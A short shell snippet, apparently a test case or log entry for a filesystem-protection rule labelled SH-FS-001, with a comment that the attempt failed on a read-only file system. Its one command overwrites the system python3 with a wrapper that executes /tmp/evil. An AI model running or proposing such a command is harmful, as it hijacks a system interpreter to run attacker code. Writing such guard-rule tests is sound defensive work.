# rule: SH-FS-001
# attempts: tee: /usr/local/bin/python3: Read-only file system
printf '#!/bin/sh\nexec /tmp/evil "$@"\n' | tee /usr/local/bin/python3
